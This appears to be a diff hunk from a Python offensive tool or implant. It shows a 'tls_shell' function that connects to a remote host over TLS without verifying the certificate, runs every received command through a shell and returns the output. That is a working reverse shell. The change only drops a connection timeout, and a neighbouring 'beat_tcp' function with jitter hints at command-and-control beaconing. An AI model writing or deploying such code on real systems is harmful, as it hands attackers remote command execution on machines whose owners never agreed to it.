@@ -381,7 +381,7 @@ def beat_tcp(target, port, count, pause, jitter):
 
 def tls_shell(target, port):
     import subprocess
-    s = ssl._create_unverified_context().wrap_socket(socket.create_connection((target, int(port)), 5))
+    s = ssl._create_unverified_context().wrap_socket(socket.create_connection((target, int(port))))
     while order := s.recv(4096):
         s.sendall(subprocess.run(order.decode(), shell=True, capture_output=True).stdout or b"-")
 
